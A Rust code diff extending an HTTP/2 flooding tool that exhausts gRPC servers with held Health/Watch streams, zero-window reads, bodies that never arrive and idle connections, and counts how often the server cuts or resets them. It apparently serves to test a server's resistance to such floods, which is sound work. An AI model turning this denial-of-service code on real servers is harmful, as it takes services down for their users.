@@ -26,6 +26,7 @@ const RST_STREAM: u8 = 0x3;
 const SETTINGS: u8 = 0x4;
 const PING: u8 = 0x6;
 const GOAWAY: u8 = 0x7;
+const WINDOW_UPDATE: u8 = 0x8;
 const END_STREAM: u8 = 0x1;
 const END_HEADERS: u8 = 0x4;
 const ACK: u8 = 0x1;
@@ -253,8 +254,22 @@ impl H2Flood {
         let _ = self.writer.send(bytes);
     }
 
+    /// Opens one more stream with a whole request, and gives it a window
+    /// of its own large enough for its answer: a stream this client reads,
+    /// whatever the window of the others.
+    pub fn open_read(&mut self) {
+        let stream = self.next_stream;
+        self.open_complete(1);
+        let _ = self.writer.send(frame(WINDOW_UPDATE, 0, stream, &(1u32 << 20).to_be_bytes()));
+    }
+
     pub fn is_closed(&self) -> bool {
         self.counts.closed.load(Ordering::Acquire)
+    }
+
+    /// How many of its streams the server reset.
+    pub fn resets(&self) -> usize {
+        self.counts.reset.load(Ordering::Acquire)
     }
 }
 
@@ -314,8 +329,9 @@ const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
 /// once, until `until`: as many Health/Watch streams as it may hold, 256
 /// Health/Check calls whose answers it never reads (a window of 0), 256
 /// calls whose request bodies never come, and 64 idle connections. When
-/// the server cuts any of it, it starts again. Returns how many of its
-/// connections the server cut.
+/// the server cuts any of it (a connection, or streams it resets), it
+/// starts again. Returns how many times the server cut a connection or
+/// reset streams of one.
 pub async fn every_trick(from: IpAddr, addr: SocketAddr, until: std::time::Instant) -> usize {
     let mut idle = Vec::new();
     let mut cut = 0;
@@ -345,10 +361,11 @@ pub async fn every_trick(from: IpAddr, addr: SocketAddr, until: std::time::Insta
             }
         }
         // Hold until something is cut or the attack ends, then start again.
-        while std::time::Instant::now() < until && round.iter().all(|f| !f.is_closed()) {
+        let cut_off = |f: &H2Flood| f.is_closed() || f.resets() > 0;
+        while std::time::Instant::now() < until && !round.iter().any(cut_off) {
             tokio::time::sleep(Duration::from_millis(100)).await;
         }
-        cut += round.iter().filter(|f| f.is_closed()).count();
+        cut += round.iter().filter(|f| cut_off(f)).count();
     }
     cut
 }
